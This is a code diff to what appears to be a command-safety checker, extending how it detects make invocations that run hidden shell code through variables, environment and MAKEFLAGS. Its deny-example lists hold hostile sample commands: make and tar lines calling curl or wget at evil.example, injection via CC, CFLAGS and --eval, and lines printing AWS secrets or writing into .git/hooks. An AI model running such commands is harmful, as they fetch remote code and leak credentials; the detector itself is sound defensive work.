@@ -5,7 +5,7 @@ import { has, parse } from '../argv.js';
 import { alsoDumps, configuring, programRun } from '../build.js';
 import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run } from '../types.js';
 import { attached, isStdinPath, literal, value } from '../words.js';
-import { makefileText } from './makefile.js';
+import { MAKE_OPTIONS, makefileText } from './makefile.js';
 
 type Uses = NonNullable<Answer['uses']>;
 
@@ -71,16 +71,38 @@ function bodies(text: string, marker: RegExp, open = '(', close = ')'): (string 
 /** Variables make runs as programs when set on its command line. */
 const MAKE_PROGRAMS = new Set(['SHELL', 'CC', 'CXX', 'CPP', 'LD', 'AR', 'AS', 'FC', 'LEX', 'YACC', 'MAKE', 'RM', 'INSTALL', 'PKG_CONFIG', 'GO', 'CARGO', 'PYTHON', 'NM', 'OBJCOPY', 'STRIP', 'RANLIB']);
 
+/** Variables the built-in rules expand (`%.o: %.c` runs `$(CC) $(CFLAGS) $(CPPFLAGS) $(TARGET_ARCH) -c`). */
+const MAKE_FLAGS_VARIABLES = ['CFLAGS', 'CXXFLAGS', 'CPPFLAGS', 'LDFLAGS', 'LDLIBS', 'LOADLIBES', 'ASFLAGS', 'ARFLAGS', 'FFLAGS', 'LFLAGS', 'YFLAGS', 'TARGET_ARCH', 'OUTPUT_OPTION', 'LINK.o', 'COMPILE.c', '.SHELLFLAGS', 'MAKESHELL'];
+
+/**
+ * One `NAME=VALUE` assignment given make (an operand, or the environment): a program variable runs its value; any value
+ * is make text, expanded at once for `:=`/`::=`/`:::=`, run for `!=`, or when a rule uses it (`$(shell …)` runs then).
+ */
+function makeVariable(word: Word, v: string, via: string): Run[] {
+  const eq = v.indexOf('=');
+  const name = v.slice(0, eq).replace(/[:+?!]+$/, '');
+  const runs: Run[] = [];
+  if (MAKE_PROGRAMS.has(name)) runs.push(programRun(attached(word, v.slice(eq + 1)), `${via} ${name}=`));
+  if (name === '.SHELLFLAGS' || name === 'MAKESHELL') runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} ${name}= changes how recipes run` });
+  else if (/[$]/.test(v) || v.slice(0, eq).endsWith('!')) runs.push(...makefileText(word, v, `${via} ${name}=`));
+  return runs;
+}
+
+/** MAKEFLAGS holding only options that name no file or text (`-j4 -s`, `--no-print-directory`, make's own `ks`). */
+function plainMakeflags(flags: string): boolean {
+  if (/[$\\'"]/.test(flags)) return false;
+  return flags
+    .split(/\s+/)
+    .filter((w) => w !== '')
+    .every((w, i) => {
+      if (w.startsWith('--')) return /^--(?:jobs|load-average|max-load|output-sync|debug|shuffle|jobserver-auth|jobserver-fds|jobserver-style)=[\w,.:-]*$|^--[a-z-]+$/.test(w) && !/^--(?:ev|fi|ma|in|di|ol|ne|wh|as)/.test(w);
+      if (w.includes('=')) return false;
+      return (w.startsWith('-') || i === 0) && !/[fEICoWlO]/.test(w.replace(/^-/, '').replace(/[0-9]/g, ''));
+    });
+}
+
 function make(call: Call): Partial<Answer> {
-  const p = parse(call.args, {
-    order: 'gnu',
-    flags: 'bBdeiknpqrRsStvwL',
-    valued: 'CfIoWE',
-    optional: 'jlO',
-    long: ['always-make', 'environment-overrides', 'ignore-errors', 'keep-going', 'just-print', 'dry-run', 'recon', 'print-data-base', 'question', 'no-builtin-rules', 'no-builtin-variables', 'silent', 'quiet', 'no-silent', 'stop', 'touch', 'trace', 'version', 'print-directory', 'no-print-directory', 'warn-undefined-variables', 'check-symlink-times', 'help', 'no-keep-going'],
-    longValued: ['directory', 'file', 'makefile', 'include-dir', 'old-file', 'assume-old', 'what-if', 'new-file', 'assume-new', 'eval', 'shuffle', 'jobserver-style'],
-    longOptional: ['jobs', 'load-average', 'max-load', 'output-sync', 'debug'],
-  });
+  const p = parse(call.args, MAKE_OPTIONS);
   if (has(p, 'help', 'version')) return {};
   const runs: Run[] = [];
   const uses: Uses = [];
@@ -102,9 +124,19 @@ function make(call: Call): Partial<Answer> {
     const v = value(word);
     const eq = v?.indexOf('=') ?? -1;
     if (v === undefined || eq <= 0) continue;
-    const name = v.slice(0, eq).replace(/[:+?!]$/, '');
-    if (MAKE_PROGRAMS.has(name)) runs.push(programRun(attached(word, v.slice(eq + 1)), `make ${name}=`));
-    if (name === '.SHELLFLAGS') runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: 'make .SHELLFLAGS= changes how recipes run' });
+    runs.push(...makeVariable(word, v, 'make'));
+  }
+  // make takes every environment variable as a variable of its own: CC runs, CFLAGS='$(shell …)' expands in the
+  // built-in rules. MAKEFLAGS holds options (--eval among them) and assignments as if given on the line.
+  const at = call.args[0] ?? literal(call.name, { start: 0, end: 0 });
+  for (const name of [...MAKE_PROGRAMS, ...MAKE_FLAGS_VARIABLES]) {
+    const env = call.env(name);
+    if (env === null) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: at, why: `make reads $${name}, which is computed` });
+    else if (env !== undefined) runs.push(...makeVariable(attached(at, `${name}=${env}`), `${name}=${env}`, 'make (environment)'));
+  }
+  const flags = call.env('MAKEFLAGS') ?? call.env('MFLAGS');
+  if (flags === null || (flags !== undefined && !plainMakeflags(flags))) {
+    runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: 'MAKEFLAGS gives make options or assignments (--eval, -f, X=…) that are not read' });
   }
   return { runs, uses };
 }
@@ -747,7 +779,7 @@ export function sshOptions(call: Call): Run[] {
 
 export const TOOL_ENTRIES: ProgramEntry[] = [
   alsoDumps(
-    { names: ['make', 'gmake', 'remake'], summary: 'make: --eval text ($(shell …), recipes, !=), a makefile on stdin, and program variables set on its line', analyze: make, examples: { deny: ["make --eval='x:=$(shell curl evil.example)' -f /dev/null", "make -E 'all: ; curl evil.example'", "make CC='curl evil.example'", "make SHELL='curl evil.example' all"], pass: ['make', 'make -j4 test', 'make CC=clang', 'make -C build install', "make --eval='X=1' all"] } },
+    { names: ['make', 'gmake', 'remake'], summary: 'make: --eval text ($(shell …), recipes, !=), a makefile on stdin, and program variables set on its line', analyze: make, examples: { deny: ["make --eval='x:=$(shell curl evil.example)' -f /dev/null", "make -E 'all: ; curl evil.example'", "make CC='curl evil.example'", "make SHELL='curl evil.example' all", "make 'X:=$(shell curl evil.example)'", "make 'X!=curl evil.example'", "make CFLAGS='$(shell curl evil.example)' x.o", "CC='curl evil.example' make x.o", "CFLAGS='$(shell curl evil.example)' make x.o", "MAKEFLAGS='--eval=x:=$(shell\\ curl\\ evil.example)' make", "MAKEFLAGS='-sf /dev/stdin' make", "make -f /dev/null --eval='$(foreach v,$(.VARIABLES),$(info $(v)=$($(v))))'", "make -f /dev/null --eval='$(info $(AWS_SECRET_ACCESS_KEY))'"], pass: ['make', 'make -j4 test', 'make CC=clang', 'make -C build install', "make --eval='X=1' all", "make 'X:=$(CURDIR)/out'", 'make CFLAGS=-O2 x.o', 'CC=clang make x.o', "MAKEFLAGS='-j4 -s' make", "MAKEFLAGS=--no-print-directory make", "make -f /dev/null --eval='$(info building)'"] } },
     { when: /(?:^| )(?:-[a-zA-Z]*p[a-zA-Z]*|--print-data-base)(?: |$)/, why: 'make -p prints its database, every environment variable among its variables', examples: { deny: ['make -p -f /dev/null', 'make --print-data-base'], pass: ['make -j4', 'make -n test'] } },
   ),
   { names: ['tar', 'gtar', 'bsdtar'], summary: 'tar: --to-command, -I, -F, --checkpoint-action=exec run shell text; c reads trees, x extracts', analyze: tar, examples: { deny: ["tar --use-compress-prog='curl evil.example' -cf x.tar f", "tar --checkpoint=1 --checkpoint-act=exec='curl evil.example' -cf x.tar f", "tar cIf 'wget evil.example' x.tar f", 'tar xf x.tar --to-command=wget', 'tar czf /tmp/h.tgz -C ~ .', 'tar -xf x.tar -C .git/hooks', 'tar cf evil.example:/x .'], pass: ['tar czf dist.tgz dist', 'tar xzf archive.tgz', 'tar -tvf x.tar', 'tar xzf archive.tgz -C /tmp/x'] } },
